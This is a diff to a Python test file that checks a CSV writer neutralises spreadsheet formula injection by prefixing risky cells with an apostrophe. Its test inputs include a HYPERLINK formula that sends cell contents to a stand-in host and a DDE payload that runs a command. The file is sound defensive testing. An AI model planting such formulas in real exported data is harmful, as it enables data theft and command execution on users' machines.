@@ -91,7 +91,23 @@ def test_any_text_survives_a_table(texts: list[str]) -> None:
     made.write([event(f"urn:{n}", text=text, headline=text) for n, text in enumerate(texts)])
     made.close()
     rows = list(csv.DictReader(io.StringIO(stream.getvalue().decode(), newline="")))
-    assert [each["text"] for each in rows] == texts
+    assert [each["text"].removeprefix("'") for each in rows] == [text.removeprefix("'") for text in texts]
+
+
+@pytest.mark.parametrize(
+    "headline",
+    [
+        '=HYPERLINK("http://wire.example/?"&A1,"Read")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "\t=1+1", "\r=1+1",
+        "＝1+1", "- 2 degrees",
+    ],
+)  # fmt: skip
+def test_no_cell_is_a_formula(headline: str) -> None:
+    stream = io.BytesIO()
+    made = CsvWriter(stream)
+    made.write([event("urn:a", text="a" + headline, headline=headline, names=(headline,))])
+    made.close()
+    (row,) = csv.DictReader(io.StringIO(stream.getvalue().decode(), newline=""))
+    assert (row["headline"], row["people"], row["text"]) == (f"'{headline}", f"'{headline}", f"a{headline}")
 
 
 def test_a_list_is_one_cell() -> None:
